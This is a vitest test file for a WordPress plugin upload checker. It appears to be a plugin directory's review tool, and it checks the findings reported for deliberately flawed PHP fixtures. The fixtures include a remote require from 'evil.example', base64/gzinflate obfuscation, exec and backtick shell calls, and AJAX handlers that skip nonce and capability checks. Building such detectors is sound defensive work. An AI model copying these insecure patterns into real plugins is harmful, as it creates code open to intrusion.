import { describe, expect, it } from 'vitest';
import { partsOf } from '#adapters/file-check/zip';
import { checkUpload } from '#adapters/plugin/check';
import type { Checklist } from '#domain/plugin/checklist';
import { jpeg, png } from '../../platform/files.ts';
import {
  append,
  CONNECTION,
  change,
  cleanTree,
  FUNCTIONS,
  MAIN,
  README,
  release,
  SETTINGS,
  TEMPLATE,
  type Tree,
  without,
  zipOf,
} from '../fixtures.ts';

async function checked(tree: Tree): Promise<Checklist> {
  const answer = await checkUpload(zipOf(tree));
  if ('refused' in answer) throw new Error(answer.refused);
  return answer.checklist;
}
/** Every finding as one line: `error item file:line message`. */
const told = ({ items }: Checklist): string[] =>
  items.flatMap(({ item, severity, findings }) =>
    findings.map(({ file, line, message }) => `${severity} ${item} ${file}${line ? `:${line}` : ''} ${message}`),
  );
const findings = async (tree: Tree) => told(await checked(tree));

/** The line of a file on which a text stands. */
const lineOf = (tree: Tree, file: string, text: string): number =>
  String(tree[file])
    .split('\n')
    .findIndex((line) => line.includes(text)) + 1;

describe('the checklist', () => {
  it('finds nothing in a clean plugin, and names every item', async () => {
    const list = await checked(cleanTree());
    expect(told(list)).toEqual([]);
    expect(list).toMatchObject({ errors: 0, warnings: 0 });
    expect(list.items.every(({ severity }) => severity === 'ok')).toBe(true);
    expect(list.items.length).toBe(22);
    expect(await findings(release('2.0.0-beta1', { php: '8.1', wp: '6.4' }))).toEqual([]);
  });

  // One rule broken by code at the end of a file: the item, on which line of the code, and what is said.
  it.each<[name: string, file: string, code: string, expected: readonly [string, number, string][]]>([
    [
      'eval',
      FUNCTIONS,
      'function a1( $x ) {\n\teval( $x );\n}\n',
      [['error eval', 1, 'eval runs code that nobody can review']],
    ],
    [
      'what does as eval does',
      FUNCTIONS,
      'function a1( $x ) {\n\tcreate_function( "", $x );\n\tassert( $x );\n\tassert( $x > 1 );\n\tpreg_replace( "/a/e", "b", "c" );\n}\n',
      [
        ['error eval', 1, 'create_function makes code at run time, as eval does'],
        ['error eval', 2, 'assert runs a text as code, as eval does'],
        ['error eval', 4, 'preg_replace with the modifier e runs what it has found as code'],
      ],
    ],
    [
      'hidden and foreign code',
      FUNCTIONS,
      "include base64_decode( 'YQ==' );\nrequire 'https://evil.example/a.php';\n$a1 = gzinflate( base64_decode( 'a' ) );\n$a2 = `ls`;\nexec( 'ls' );\n",
      [
        ['error eval', 0, 'an included file whose name is hidden'],
        ['error eval', 1, 'an included file that is not the plugin’s own'],
        ['error eval', 2, 'gzinflate of something decoded hides code'],
        ['error eval', 3, 'backticks run commands of the server'],
        ['error eval', 4, 'exec runs commands of the server'],
      ],
    ],
    [
      'a remote file_get_contents',
      FUNCTIONS,
      "function a1( $id ) {\n\t$url = 'https://api.igny8.example/' . $id;\n\treturn file_get_contents( $url );\n}\n",
      [['error remote_files', 2, 'file_get_contents reads from another server']],
    ],
    [
      'ways around the HTTP API',
      FUNCTIONS,
      "function a1( $url ) {\n\tcurl_init( $url );\n\tfopen( 'http://a.example/', 'r' );\n\tfsockopen( 'a.example', 80 );\n\tfile_get_contents( $url );\n}\n",
      [
        ['warning http_api', 1, 'curl: use wp_remote_get() and its kin'],
        ['warning http_api', 2, 'fopen of an address: use wp_remote_get() and its kin'],
        ['warning http_api', 3, 'fsockopen: use wp_remote_get() and its kin'],
        [
          'warning http_api',
          4,
          'file_get_contents of what may be an address: use wp_remote_get(), or a path of the plugin',
        ],
      ],
    ],
    [
      'input that is not sanitized',
      FUNCTIONS,
      "function a1() {\n\tcheck_admin_referer( 'a' );\n\tupdate_option( 'a', wp_unslash( $_POST['a'] ) );\n\t$b = $_GET['b'] ?? '';\n\tforeach ( $_REQUEST as $c ) {\n\t}\n\t$d = trim( $_SERVER['HTTP_HOST'] );\n\t$e = filter_input( INPUT_GET, 'e' );\n\treturn $_COOKIE['f'];\n}\n",
      [
        ['error inputs', 2, "$_POST['a'] is used without being sanitized"],
        ['error inputs', 3, "$_GET['b'] is used without being sanitized"],
        ['error inputs', 4, '$_REQUEST is used without being sanitized'],
        ['error inputs', 6, "$_SERVER['HTTP_HOST'] is used without being sanitized"],
        ['error inputs', 7, 'filter_input without a filter is used without being sanitized'],
        ['error inputs', 8, "$_COOKIE['f'] is used without being sanitized"],
      ],
    ],
    [
      'output that is not escaped',
      FUNCTIONS,
      "function a1( $x ) {\n\techo $x;\n\techo \"a {$x['b']}\", esc_html( $x );\n\tprintf( '<b>%s</b>', get_option( 'c' ) );\n\tprint( $x ? 'd' : $x );\n\t_e( 'IGNY8', 'igny8' );\n\techo __( 'IGNY8', 'igny8' );\n\twp_die( $x );\n}\n?>\n<p><?= $b ?></p>\n",
      [
        ['error outputs', 1, '$x is printed without being escaped'],
        ['error outputs', 2, 'a value is printed without being escaped'],
        ['error outputs', 3, 'get_option() is printed without being escaped'],
        ['error outputs', 4, '$x is printed without being escaped'],
        ['error outputs', 5, '_e() prints a translation without escaping it: use esc_html_e()'],
        ['error outputs', 6, '__() is printed without being escaped'],
        ['error outputs', 7, '$x is printed without being escaped'],
        ['error outputs', 10, '$b is printed without being escaped'],
      ],
    ],
    [
      'a form without a nonce',
      FUNCTIONS,
      'function a1() {\n\t?>\n\t<p></p>\n\t<form action="a" method="post"></form>\n\t<?php\n}\nfunction a2() {\n\treturn \'<form method="POST">\';\n}\nfunction a3() {\n\techo \'<form method="post">\';\n\twp_nonce_field( \'a\' );\n}\n',
      [
        ['error nonces', 3, 'a form without a nonce: use wp_nonce_field()'],
        ['error nonces', 7, 'a form without a nonce: use wp_nonce_field()'],
      ],
    ],
    [
      'a form whose tag is put together, and data that is no script',
      FUNCTIONS,
      'function a1( $x ) {\n\techo \'<script type="application/ld+json">{}</script><link rel="icon" href="a">\';\n\techo \'<form action="\' . esc_url( $x->url ) . \'" method="post">\';\n}\n?>\n<form class="<?php echo esc_attr( $a->b ); ?>"\n\tmethod="post">\n</form>\n',
      [
        ['error nonces', 2, 'a form without a nonce: use wp_nonce_field()'],
        ['error nonces', 5, 'a form without a nonce: use wp_nonce_field()'],
      ],
    ],
    [
      'handlers that verify nothing',
      FUNCTIONS,
      "add_action( 'wp_ajax_a1', 'igny8_a1' );\nfunction igny8_a1() {\n\twp_send_json_success();\n}\nadd_action( 'wp_ajax_nopriv_a2', function () {\n\twp_send_json_success();\n} );\nadd_action( 'wp_ajax_a3', 'igny8_nowhere' );\n",
      [
        ['error nonces', 1, 'igny8_a1(), the handler of wp_ajax_a1, verifies no nonce'],
        ['error nonces', 4, 'the handler of wp_ajax_nopriv_a2 verifies no nonce'],
        ['error nonces', 7, 'the handler of wp_ajax_a3 is not in the plugin'],
        ['error capabilities', 1, 'igny8_a1(), the handler of wp_ajax_a1, does not ask current_user_can()'],
      ],
    ],
    [
      'what was sent, read before a nonce',
      FUNCTIONS,
      "function a1() {\n\t$a = absint( $_POST['a'] );\n\tcheck_admin_referer( 'a' );\n\treturn $a;\n}\nfunction a2() {\n\tdelete_option( sanitize_key( $_GET['b'] ) );\n}\nfunction a3() {\n\treturn sanitize_key( $_GET['b'] );\n}\n",
      [
        ['error nonces', 1, '$_POST is read before a nonce is verified'],
        ['error nonces', 6, '$_GET is read before a nonce is verified'],
      ],
    ],
    [
      'a REST route for anybody',
      FUNCTIONS,
      "register_rest_route( 'igny8/v1', '/all', array(\n\t'methods' => 'GET',\n\t'callback' => 'igny8_state',\n) );\n",
      [['error capabilities', 0, 'register_rest_route() without a permission_callback']],
    ],
    [
      'texts under no text domain, another one, or none that can be read',
      FUNCTIONS,
      "function a1( $x, $d ) {\n\treturn array(\n\t\t__( 'a' ),\n\t\tesc_html__( 'a', 'igny8-seo' ),\n\t\t_n( 'a', 'b', 1 ),\n\t\tesc_attr_x( 'a', 'context', $d ),\n\t\t_nx( 'a', 'b', 1, 'c', 'other' ),\n\t\t__( $x, 'igny8' ),\n\t\t_n( 'a', \"b $x\", 1, 'igny8' ),\n\t\t\\__( 'a', 'igny8' ),\n\t);\n}\n",
      [
        ['error text_domain', 2, "__(): no text domain: give 'igny8'"],
        ['error text_domain', 3, "esc_html__(): the text domain is 'igny8-seo' and not 'igny8'"],
        ['error text_domain', 4, "_n(): no text domain: give 'igny8'"],
        ['error text_domain', 5, "esc_attr_x(): the text domain must be the literal 'igny8'"],
        ['error text_domain', 6, "_nx(): the text domain is 'other' and not 'igny8'"],
        ['error text_domain', 7, '__(): what is translated must be a literal'],
        ['error text_domain', 8, '_n(): what is translated must be a literal'],
      ],
    ],
    [
      'scripts that are not enqueued as they should',
      FUNCTIONS,
      "wp_enqueue_script( 'a', 'a.js' );\nadd_action( 'wp_enqueue_scripts', 'igny8_a1' );\nfunction igny8_a1() {\n\twp_enqueue_style( 'b', 'https://cdn.example/b.css' );\n}\nfunction a2() {\n\treturn '<script src=\"c.js\"></script>';\n}\n",
      [
        ['error enqueue', 0, 'wp_enqueue_script() outside of the hooks for it'],
        ['error enqueue', 3, 'wp_enqueue_style() loads from another server: put the file into the plugin'],
        ['error enqueue', 6, 'a script or style sheet that is printed: enqueue it'],
      ],
    ],
    [
      'a script on every page of the admin',
      FUNCTIONS,
      "add_action( 'admin_enqueue_scripts', 'igny8_a1' );\nfunction igny8_a1( $hook ) {\n\twp_enqueue_script( 'a', 'a.js' );\n}\n",
      [['warning enqueue_where_needed', 1, 'enqueues on every page of the admin: look at the hook suffix first']],
    ],
    [
      'a call home that nobody agreed to',
      FUNCTIONS,
      "add_action( 'init', 'igny8_a1' );\nfunction igny8_a1() {\n\twp_remote_get( 'https://igny8.example/ping/' );\n}\nwp_remote_head( IGNY8_API );\n",
      [
        ['error consent', 2, 'wp_remote_get() without asking for consent before'],
        ['error consent', 4, 'wp_remote_head() without asking for consent before'],
      ],
    ],
    [
      'addresses of visitors that are kept',
      FUNCTIONS,
      "function a1() {\n\tglobal $wpdb;\n\t$ip = sanitize_text_field( wp_unslash( $_SERVER['REMOTE_ADDR'] ) );\n\t$row = array( 'ip' => $ip );\n\tupdate_option( 'igny8_last', $ip );\n\t$wpdb->insert( 'igny8_visits', $row );\n\tset_transient( 'a', wp_hash( $ip ) );\n}\nfunction a2() {\n\tadd_user_meta( 1, 'ip', igny8_ip() );\n}\nfunction igny8_ip() {\n\treturn sanitize_text_field( wp_unslash( $_SERVER['HTTP_X_FORWARDED_FOR'] ) );\n}\n",
      [
        ['error addresses', 4, 'update_option() keeps the address of a visitor'],
        ['error addresses', 5, '$wpdb->insert() keeps the address of a visitor'],
        ['error addresses', 9, 'add_user_meta() keeps the address of a visitor'],
      ],
    ],
    [
      'PHP that is none',
      FUNCTIONS,
      'function a1( {\n',
      [['error php', 0, "syntax error, unexpected '{', expecting T_VARIABLE"]],
    ],
  ])('says where: %s', async (_, file, code, expected) => {
    const { tree, line } = append(cleanTree(), file, code);
    const lines = expected.map(([item, at, message]) => `${item} ${file}:${line + at} ${message}`);
    const all = await findings(tree);
    if (_ === 'PHP that is none') expect(all.filter((each) => each.startsWith('error php'))).toEqual(lines);
    else expect(all).toEqual(lines);
  });

  const line = (tree: Tree, file: string, text: string) => `${file}:${lineOf(tree, file, text)}`;
  it.each<[name: string, change: (tree: Tree) => Tree, expected: (tree: Tree) => readonly string[]]>([
    [
      'a file without a guard',
      (tree) => change(tree, 'igny8-seo/uninstall.php', /if \([^}]+\}\n/, ''),
      () => ['error abspath igny8-seo/uninstall.php:2 begins without leaving where ABSPATH is not defined'],
    ],
    [
      'a guard that comes too late',
      (tree) => change(tree, TEMPLATE, /^/, '<p>First</p>'),
      () => [`error abspath ${TEMPLATE}:1 begins without leaving where ABSPATH is not defined`],
    ],
    [
      'a handler that asks no capability',
      (tree) =>
        change(
          tree,
          SETTINGS,
          /if \( ! current_user_can\( 'manage_options' \) \) \{\n\t\t\twp_send_json_error/,
          'if ( false ) {\n\t\t\twp_send_json_error',
        ),
      (tree) =>
        ['save', 'connect'].map(
          (name) =>
            `error capabilities ${line(tree, SETTINGS, `function ${name}(`)} ${name}(), the handler of wp_ajax_igny8_${name}, does not ask current_user_can()`,
        ),
    ],
    [
      'consent that is no longer asked for',
      (tree) => change(tree, CONNECTION, 'return $this->request( $path );', 'return 1;'),
      (tree) => [
        `error consent ${line(tree, CONNECTION, 'wp_remote_get')} wp_remote_get() without asking for consent before`,
      ],
    ],
    [
      'a request past the consent',
      (tree) =>
        change(
          tree,
          CONNECTION,
          'public function body',
          'public function now() { return $this->request( "a" ); }\n\tpublic function body',
        ),
      (tree) => [
        `error consent ${line(tree, CONNECTION, 'wp_remote_get')} wp_remote_get() without asking for consent before`,
      ],
    ],
    [
      'another version as the stable tag, and in the constant',
      (tree) =>
        change(change(tree, README, 'Stable tag: 1.2.0', 'Stable tag: 1.1.0'), MAIN, "'1.2.0' );", "'1.2.1' );"),
      () => [
        `error versions ${MAIN}:19 IGNY8_VERSION is 1.2.1, the header says 1.2.0`,
        `error versions ${README}:7 the stable tag is 1.1.0, the header says 1.2.0`,
      ],
    ],
    [
      'no constant of the version',
      (tree) => change(tree, MAIN, "define( 'IGNY8_VERSION', '1.2.0' );\n", ''),
      () => [`error versions ${MAIN} no constant whose name ends in VERSION`],
    ],
    [
      'another licence, and no text of one',
      (tree) =>
        without(
          change(change(tree, MAIN, 'GPL-2.0-or-later', 'MIT'), README, 'GPLv2 or later', 'GPLv3'),
          'igny8-seo/license.txt',
        ),
      () => [
        `error license ${MAIN}:11 License is MIT and not GPL-2.0-or-later`,
        'error license igny8-seo/license.txt there is no file with the text of the licence',
        `error license ${README}:8 License is GPLv3 and not GPL-2.0-or-later`,
      ],
    ],
    [
      'another text domain in the header',
      (tree) => change(tree, MAIN, 'igny8\n */', 'igny8-seo\n */'),
      () => [`error text_domain ${MAIN}:12 Text Domain is igny8-seo and not igny8`],
    ],
    ['no readme', (tree) => without(tree, README), () => [`error readme ${README} there is no readme.txt`]],
    [
      'a readme that lacks headers and sections',
      (tree) =>
        change(
          change(
            change(change(tree, README, 'Contributors: alorig\n', ''), README, '6.6', 'yes'),
            README,
            /== Installation ==[^=]+/,
            '',
          ),
          README,
          '= 1.2.0 =\n* Pictures',
          '* Pictures',
        ),
      (tree) => [
        `error readme ${README} no header Contributors`,
        `error readme ${README} no section Installation, or nothing in it`,
        `error readme ${README}:4 Tested up to is no version: yes`,
        `error readme ${line(tree, README, '== Changelog')} the changelog says nothing of 1.2.0`,
      ],
    ],
    [
      'headers that say otherwise than the readme',
      (tree) => change(tree, README, 'Requires PHP: 7.4', 'Requires PHP: 7.2'),
      () => [`error readme ${README}:6 Requires PHP is 7.2 here and 7.4 in the plugin’s header`],
    ],
    [
      'a short description and tags beyond the limits',
      (tree) =>
        change(
          change(tree, README, 'you have agreed to it.', `you have agreed to it.${' And more'.repeat(12)}`),
          README,
          'seo, content, publishing',
          'a, b, c, d, e, f',
        ),
      () => [
        `warning readme_limits ${README}:3 more than 5 tags: the directory shows the first ones`,
        `warning readme_limits ${README}:11 the short description has more than 150 characters`,
      ],
    ],
    [
      'minified files without their sources',
      (tree) => ({
        ...without(tree, 'igny8-seo/assets/js/admin.js'),
        'igny8-seo/assets/js/big.js': `x=${'1+'.repeat(2000)}1`,
      }),
      () => [
        'error sources igny8-seo/assets/js/admin.min.js is minified, and its source is not in the plugin',
        'error sources igny8-seo/assets/js/big.js is minified, and its source is not in the plugin',
      ],
    ],
    [
      'pictures that are missing, or of another size',
      (tree) => ({
        ...without(tree, 'assets/banner-772x250.png'),
        'assets/icon-256x256.png': png(255, 256),
        'assets/icon-128x128.png': jpeg(),
      }),
      () => [
        'warning assets assets/banner-772x250.png is missing',
        'warning assets assets/icon-128x128.png is no picture of PNG, JPEG or GIF',
        'warning assets assets/icon-256x256.png is 255×256 and not 256×256',
      ],
    ],
    [
      'too few screenshots, and one without a caption',
      (tree) => change(without(tree, 'assets/screenshot-8.png'), README, '3. The queue\n', ''),
      (tree) => [
        'warning screenshots assets/ screenshots: 7, and at least 8 are wanted',
        `warning screenshots ${line(tree, README, '== Screenshots')} screenshot 3 has no caption`,
      ],
    ],
    [
      'what does not belong there',
      (tree) => ({
        ...tree,
        'igny8-seo/.git/config': 'a',
        'igny8-seo/tools/run.sh': 'a',
        'igny8-seo/.env': 'a',
        'notes.txt': 'a',
      }),
      () => [
        'error structure igny8-seo/.env is a hidden file',
        'error structure igny8-seo/.git/config belongs to a tool, and not to the plugin',
        'error structure igny8-seo/tools/run.sh is a program',
        'error structure notes.txt stands outside of the plugin’s folder',
      ],
    ],
    [
      'a folder of another name',
      (tree) =>
        Object.fromEntries(
          Object.entries(tree).map(([name, content]) => [name.replace(/^igny8-seo\//, 'igny8/'), content]),
        ),
      () => ['error structure igny8/ the folder must be called igny8-seo/'],
    ],
  ])('says where: %s', async (_, changed, expected) => {
    const tree = changed(cleanTree());
    expect(await findings(tree)).toEqual(expected(tree));
  });

  it('lists a hundred findings of an item, and counts them all', async () => {
    const { tree } = append(cleanTree(), FUNCTIONS, 'eval( 1 );\n'.repeat(250));
    const list = await checked(tree);
    const item = list.items.find((each) => each.item === 'eval');
    expect([list.errors, item?.findings.length, item?.findings.at(-1)?.message]).toEqual([250, 101, 'and 150 more']);
  });

  it('packs what sites download as one folder, the same each time', async () => {
    const [once, again] = [await checkUpload(zipOf(cleanTree())), await checkUpload(zipOf(cleanTree()))];
    if ('refused' in once || 'refused' in again || !once.package.bytes) throw new Error('refused');
    expect(again.package).toEqual(once.package);
    const names = [...(await partsOf(Buffer.from(once.package.bytes))).keys()];
    expect(names.filter((name) => !name.startsWith('igny8-seo/'))).toEqual([]);
    const bare = Object.fromEntries(Object.entries(cleanTree()).filter(([name]) => !name.startsWith('assets/')));
    const inside = await checkUpload(once.package.bytes);
    expect(inside).toMatchObject({
      version: '1.2.0',
      package: { bytes: null, sha256: once.package.sha256 },
      assets: [],
    });
    expect(await checkUpload(zipOf(bare))).toMatchObject({ package: { bytes: null } });
  });
});
